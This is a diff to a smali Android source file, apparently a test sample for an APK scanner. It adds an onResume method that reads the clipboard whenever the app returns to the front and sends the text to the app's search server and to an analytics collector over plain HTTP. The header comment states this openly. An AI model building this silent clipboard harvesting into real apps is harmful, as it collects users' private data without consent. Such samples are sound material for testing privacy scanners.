@@ -2,9 +2,10 @@
 .super Landroid/app/Activity;
 .implements Landroid/widget/SearchView$OnQueryTextListener;
 
-# An app with no incognito mode: what the user searches goes to its own
-# search server (the search itself) and to a Sensors Analytics collector
-# by a plain HTTP request (tracking, though no SDK call is made).
+# An app with no incognito mode: what the user searches, and what the
+# clipboard holds when the app comes to the front, go to its own search
+# server (the search itself) and to a Sensors Analytics collector by a
+# plain HTTP request (tracking, though no SDK call is made).
 
 .method public constructor <init>()V
     .registers 1
@@ -18,6 +19,22 @@
     new-instance v0, Landroid/widget/SearchView;
     invoke-direct {v0, p0}, Landroid/widget/SearchView;-><init>(Landroid/content/Context;)V
     invoke-virtual {v0, p0}, Landroid/widget/SearchView;->setOnQueryTextListener(Landroid/widget/SearchView$OnQueryTextListener;)V
+    return-void
+.end method
+
+.method protected onResume()V
+    .registers 3
+    invoke-super {p0}, Landroid/app/Activity;->onResume()V
+    const-string v0, "clipboard"
+    invoke-virtual {p0, v0}, Lorg/apkscan/test/sh/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Landroid/content/ClipboardManager;
+    invoke-virtual {v0}, Landroid/content/ClipboardManager;->getText()Ljava/lang/CharSequence;
+    move-result-object v0
+    invoke-interface {v0}, Ljava/lang/CharSequence;->toString()Ljava/lang/String;
+    move-result-object v0
+    invoke-static {v0}, Lorg/apkscan/test/sh/Main;->find(Ljava/lang/String;)V
+    invoke-static {v0}, Lorg/apkscan/test/sh/Main;->stat(Ljava/lang/String;)V
     return-void
 .end method
 
